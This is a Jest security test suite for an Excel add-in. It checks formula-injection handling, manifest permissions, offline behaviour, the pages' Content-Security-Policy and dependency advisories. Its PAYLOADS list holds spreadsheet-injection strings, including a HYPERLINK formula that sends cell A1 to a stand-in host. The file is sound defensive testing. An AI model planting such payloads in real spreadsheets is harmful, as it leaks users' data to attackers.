/**
 * Security: text from a cell is never written where Excel would read it as a formula; the manifest
 * asks for no more than ReadWriteDocument; nothing leaves the machine at run time; the HTML pages
 * declare a Content-Security-Policy without remote origins (but Microsoft's office.js CDN for scripts);
 * no production dependency with an advisory from the committed list (checked offline,
 * tests/reliability/advisories.json).
 */
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import ExcelJS from 'exceljs';
import { analyse } from '../../src/core/analyse';
import { plan } from '../../src/core/plan';
import { main } from '../../src/cli/main';
import { readWorkbookFile } from '../../src/xlsx/read';
import { setup } from '../excel/helpers';
import { findAdvisories, inRange, installedPackages, type Advisory } from './advisories';

const ROOT = path.join(__dirname, '..', '..');
const FIX = path.join(ROOT, 'tests', 'fixtures');
const quiet = { out: () => undefined, err: () => undefined };

// Formula-looking indicator names (each a classic spreadsheet-injection payload).
const PAYLOADS = [
  '=HYPERLINK("http://contoh.invalid/?d="&A1,"Persentase layanan")',
  '+SUM(1,2) Persentase pemenuhan',
  '-2+3 Persentase layanan kunjungan',
  '@SUM(A1:A9) Persentase tahanan',
];
const MARKERS = ['HYPERLINK', 'SUM(1,2)', '2+3', 'SUM(A1:A9)'];

let dir: string;
let injected: string;
/** Original indicator names, by Pengukuran 2023 address, after injection. */
const names = new Map<string, string>();

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'capaian-sec-'));
  // kupang-2023.xlsx has PK, Pengukuran 2023/2022 and Renstra: names flow into Temuan and
  // Perbandingan Renstra. Prefix the first four names of every table with the payloads.
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path.join(FIX, 'kupang-2023.xlsx'));
  const a = analyse(await readWorkbookFile(path.join(FIX, 'kupang-2023.xlsx')));
  for (const t of a.tables) {
    t.items.slice(0, 4).forEach((it, i) => {
      const addr = it.cells.indikator!;
      const text = `${PAYLOADS[i]} ${it.indikator}`;
      wb.getWorksheet(t.sheet)!.getCell(addr).value = text; // a string, never { formula }
      if (t.sheet === 'Pengukuran 2023') names.set(addr, text);
    });
  }
  injected = path.join(dir, 'injeksi.xlsx');
  await wb.xlsx.writeFile(injected);
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

describe('formula injection', () => {
  test('the plan marks every formula-looking text as text (numberFormat @)', async () => {
    const snap = await readWorkbookFile(injected);
    const a = analyse(snap);
    const p = plan(a, { mode: 'hitung', renstra: true, workbook: snap });
    const all = [...p.cells, ...p.sheets.flatMap((s) => s.cells)];
    const texts = all.filter((w) => w.formula === null && typeof w.value === 'string' && /^[=+\-@]/.test(w.value));
    expect(texts.length).toBeGreaterThan(0); // the names reach the new sheets
    for (const w of texts) expect(`${w.sheet}!${w.cell} ${w.numberFormat}`).toBe(`${w.sheet}!${w.cell} @`);
    for (const w of all) if (w.formula) for (const m of MARKERS) expect(w.formula).not.toContain(m);
  });

  test('CLI hitung (exceljs): the written cells hold the text, never a formula', async () => {
    const out = path.join(dir, 'injeksi.out.xlsx');
    expect([0, 1]).toContain(await main(['hitung', injected, '-o', out], quiet));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    let seen = 0;
    wb.eachSheet((ws) => {
      ws.eachRow({ includeEmpty: false }, (row) =>
        row.eachCell({ includeEmpty: false }, (cell) => {
          const v = cell.value;
          if (v && typeof v === 'object' && 'formula' in v) {
            for (const m of MARKERS) expect(`${ws.name}!${cell.address} =${String(v.formula)}`).not.toContain(m);
          }
          if (typeof v === 'string' && PAYLOADS.some((p) => v.startsWith(p))) seen++;
        }),
      );
    });
    // the names in the user's sheets and their copies on the new sheets are all still text
    expect(seen).toBeGreaterThanOrEqual(names.size + 4);
    for (const [addr, text] of names) expect(wb.getWorksheet('Pengukuran 2023')!.getCell(addr).value).toBe(text);
    const rs = wb.getWorksheet('Perbandingan Renstra');
    expect(rs).toBeDefined();
  });

  test('in-memory Excel (Hitung + Bangun Renstra): the written cells hold the text, never a formula', async () => {
    const snap = await readWorkbookFile(injected);
    const { fake, host } = setup({ ...snap, activeSheet: 'Pengukuran 2023' });
    await host.hitung();
    await host.bangunRenstra({ confirmReplace: true });
    const d = fake.dump();
    let seen = 0;
    for (const s of d.sheets) {
      for (const [addr, c] of Object.entries(s.cells)) {
        if (c.f) for (const m of MARKERS) expect(`${s.name}!${addr} ${c.f}`).not.toContain(m);
        if (typeof c.v === 'string' && PAYLOADS.some((p) => (c.v as string).startsWith(p))) {
          seen++;
          expect(c.f).toBeUndefined();
        }
      }
    }
    expect(seen).toBeGreaterThanOrEqual(names.size + 4);
    for (const [addr, text] of names) expect(fake.cell('Pengukuran 2023', addr)).toMatchObject({ value: text, formula: null });
  });
});

test('manifest.xml asks for no more than ReadWriteDocument', () => {
  const xml = fs.readFileSync(path.join(ROOT, 'manifest.xml'), 'utf8');
  const perms = [...xml.matchAll(/<Permissions>\s*([^<\s]+)\s*<\/Permissions>/g)].map((m) => m[1]);
  expect(perms.length).toBeGreaterThanOrEqual(1);
  for (const p of perms) expect(['Restricted', 'ReadDocument', 'ReadWriteDocument']).toContain(p);
  expect(xml).not.toMatch(/ReadWriteMailbox|ReadAllDocument/);
});

describe('no request leaves the machine at run time', () => {
  /* eslint-disable @typescript-eslint/no-require-imports */
  const mods = {
    http: require('http'),
    https: require('https'),
    net: require('net'),
    tls: require('tls'),
    dns: require('dns'),
    dgram: require('dgram'),
  } as Record<string, Record<string, unknown>>;
  const targets: Array<[string, string]> = [
    ['http', 'request'], ['http', 'get'], ['https', 'request'], ['https', 'get'],
    ['net', 'connect'], ['net', 'createConnection'], ['tls', 'connect'],
    ['dns', 'lookup'], ['dns', 'resolve'], ['dgram', 'createSocket'],
  ];
  const calls: string[] = [];
  const saved: Array<[string, string, unknown]> = [];
  let savedFetch: unknown;
  beforeAll(() => {
    for (const [m, f] of targets) {
      saved.push([m, f, mods[m][f]]);
      mods[m][f] = (..._args: unknown[]) => {
        calls.push(`${m}.${f}`);
        throw new Error(`network call ${m}.${f} during a test`);
      };
    }
    savedFetch = (globalThis as Record<string, unknown>).fetch;
    (globalThis as Record<string, unknown>).fetch = (...args: unknown[]) => {
      calls.push(`fetch ${String(args[0])}`);
      throw new Error('fetch during a test');
    };
  });
  afterAll(() => {
    for (const [m, f, v] of saved) mods[m][f] = v;
    (globalThis as Record<string, unknown>).fetch = savedFetch;
  });

  test('analyse, plan, CLI periksa and hitung, and the Excel host on every fixture make no network call', async () => {
    const files = ['kupang-2023.xlsx', 'soe-2023.xlsx', 'balikpapan-2022.xlsx', 'sarolangun-2022.xlsx', 'kerobokan-ra-2024.xlsx'];
    for (const f of files) {
      const snap = await readWorkbookFile(path.join(FIX, f));
      const a = analyse(snap);
      plan(a, { mode: 'hitung', renstra: true, workbook: snap });
      plan(a, { mode: 'periksa', renstra: true, workbook: snap });
      await main(['periksa', path.join(FIX, f), '--json'], quiet);
      await main(['hitung', path.join(FIX, f), '-o', path.join(dir, `net-${f}`)], quiet);
      const { host } = setup({ ...snap, activeSheet: a.tables[0]?.sheet ?? snap.sheets[0].sheet });
      await host.hitung();
      await host.pulihkan();
    }
    expect(calls).toEqual([]);
    // the guards were live: a call would have been caught
    expect(() => (mods.http.request as () => void)()).toThrow(/network call/);
    calls.length = 0;
  }, 120_000);
});

describe('Content-Security-Policy of the HTML pages', () => {
  const pages = ['src/taskpane/taskpane.html', 'src/playground/playground.html', 'src/commands/commands.html'];
  // office.js must come from Microsoft's CDN (the Office-Addin-TaskPane template's URL): the add-in
  // pages allow that one origin for scripts, nothing else; the playground allows no remote origin.
  const OFFICE_ORIGIN = 'https://appsforoffice.microsoft.com';
  const OFFICE_JS = `${OFFICE_ORIGIN}/lib/1/hosted/office.js`;
  const officePages = new Set(['src/taskpane/taskpane.html', 'src/commands/commands.html']);
  test.each(pages)('%s: CSP present, only self/data:/none (+ the office.js CDN for scripts on add-in pages), no other remote origin or script', (page) => {
    const html = fs.readFileSync(path.join(ROOT, page), 'utf8');
    const m = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/i.exec(html);
    expect(m).not.toBeNull();
    const directives = new Map(
      m![1].split(';').map((d) => d.trim()).filter(Boolean).map((d) => {
        const [name, ...src] = d.split(/\s+/);
        return [name, src] as [string, string[]];
      }),
    );
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    for (const [name, sources] of directives) {
      for (const s of sources) {
        const ok =
          ["'self'", "'none'", 'data:'].includes(s) ||
          (s === "'unsafe-inline'" && name === 'style-src') ||
          (s === OFFICE_ORIGIN && name === 'script-src' && officePages.has(page));
        expect(`${name} ${s}: ${ok ? 'ok' : 'remote or unsafe'}`).toBe(`${name} ${s}: ok`);
      }
    }
    expect(directives.get('script-src') ?? directives.get('default-src')).not.toContain("'unsafe-eval'");
    // no script, stylesheet or frame from another origin, but office.js from Microsoft's CDN
    const remote = [...html.matchAll(/<(script|link|iframe|img)[^>]+(src|href)="((https?:)?\/\/[^"]*)"/gi)].map((x) => x[3]);
    expect(remote).toEqual(officePages.has(page) ? [OFFICE_JS] : []);
    if (officePages.has(page)) expect(directives.get('script-src')).toEqual(["'self'", OFFICE_ORIGIN]);
  });
});

describe('advisories (offline: package-lock.json against tests/reliability/advisories.json)', () => {
  const list = JSON.parse(fs.readFileSync(path.join(__dirname, 'advisories.json'), 'utf8')) as { advisories: Advisory[] };
  const lock = JSON.parse(fs.readFileSync(path.join(ROOT, 'package-lock.json'), 'utf8'));

  test('version ranges: bounds, alternatives and pre-releases', () => {
    expect(inRange('0.18.5', '<0.19.3')).toBe(true);
    expect(inRange('0.19.3', '<0.19.3')).toBe(false);
    expect(inRange('6.3.0', '<5.7.2 || >=6.0.0 <6.3.1 || >=7.0.0 <7.5.2')).toBe(true);
    expect(inRange('6.3.1', '<5.7.2 || >=6.0.0 <6.3.1 || >=7.0.0 <7.5.2')).toBe(false);
    expect(inRange('5.7.1', '<5.7.2 || >=6.0.0 <6.3.1 || >=7.0.0 <7.5.2')).toBe(true);
    expect(inRange('0.2.3', '<=0.2.3')).toBe(true);
    expect(inRange('1.0.0-beta.1', '<1.0.0')).toBe(true);
    expect(() => inRange('1.0.0', '~1.0')).toThrow(/unreadable/);
  });

  test('a known-bad version in a lockfile is reported (the check can fail)', () => {
    const bad = {
      packages: {
        '': { version: '1.0.0' },
        'node_modules/xlsx': { version: '0.18.5' },
        'node_modules/exceljs/node_modules/minimist': { version: '1.2.5' },
        'node_modules/zod': { version: '3.25.76' },
      },
    };
    const hits = findAdvisories(installedPackages(bad), list.advisories).map((h) => `${h.installed.name}@${h.installed.version} ${h.advisory.id}`);
    // xlsx 0.18.5 < 0.19.3 and < 0.20.2: two advisories; nested minimist 1.2.5 < 1.2.6; zod 3.25.76 > 3.22.2: none
    expect(hits.sort()).toEqual(['minimist@1.2.5 GHSA-xvch-5gv4-984h', 'xlsx@0.18.5 GHSA-4r6h-8v6p-xvw6', 'xlsx@0.18.5 GHSA-5pgg-2g8v-p4x9']);
  });

  test('the lockfile is read (production packages found) and none has a listed advisory', () => {
    const installed = installedPackages(lock);
    const prod = installed.filter((i) => !i.dev).map((i) => i.name);
    for (const name of ['exceljs', 'fflate', 'react', 'zod']) expect(prod).toContain(name);
    const hits = findAdvisories(installed.filter((i) => !i.dev), list.advisories);
    expect(hits.map((h) => `${h.installed.name}@${h.installed.version}: ${h.advisory.id} ${h.advisory.severity} ${h.advisory.title}`)).toEqual([]);
  });
});
